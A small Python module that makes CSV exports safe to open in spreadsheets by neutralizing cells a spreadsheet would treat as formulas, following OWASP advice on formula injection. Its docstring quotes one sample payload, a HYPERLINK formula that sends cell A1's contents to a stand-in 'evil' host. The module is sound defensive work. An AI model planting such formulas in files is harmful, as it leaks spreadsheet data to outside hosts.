"""CSV files that are safe to open in a spreadsheet: no cell of user text is taken for a formula.

A query or passage such as ``=HYPERLINK("http://evil/?"&A1, "click")`` written as is into a CSV becomes a live
formula in Excel, LibreOffice or Google Sheets (CSV or formula injection, CWE-1236). Following OWASP's advice,
every text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (also after leading
spaces) gets a leading apostrophe, which spreadsheets show as text and do not evaluate. Numeric columns are
left alone, so scores such as ``-0.25`` stay numbers.
"""

from __future__ import annotations

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralize_cell(value: object) -> object:
    """``value`` with a leading apostrophe when it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutralize_formulas(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells (and column names) can't be taken for formulas."""
    out = frame.copy()
    for column in out.columns:
        if not (pd.api.types.is_numeric_dtype(out[column]) or pd.api.types.is_bool_dtype(out[column])):
            out[column] = out[column].map(neutralize_cell)
    out.columns = [neutralize_cell(str(c)) for c in out.columns]
    return out


def safe_csv(frame: pd.DataFrame) -> str:
    """``frame`` as CSV text (no index) with formula-like text cells neutralized."""
    return neutralize_formulas(frame).to_csv(index=False)
